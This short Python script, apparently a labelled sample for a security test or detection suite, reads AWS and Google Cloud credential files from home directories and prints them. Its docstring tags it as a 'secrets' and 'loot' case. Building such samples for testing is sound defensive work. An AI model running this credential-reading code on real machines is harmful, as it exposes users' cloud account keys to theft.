"""Reads the keys of cloud accounts.

family: secrets
arguments: {home} .aws/credentials .config/gcloud/application_default_credentials.json
judge: loot aws gcloud
trace: .aws/credentials, application_default_credentials
"""

import contextlib
import os
import sys

for home in (sys.argv[1], os.path.expanduser("~")):
    for name in sys.argv[2:-1]:
        with contextlib.suppress(OSError), open(os.path.join(home, name)) as file:
            print(file.read())
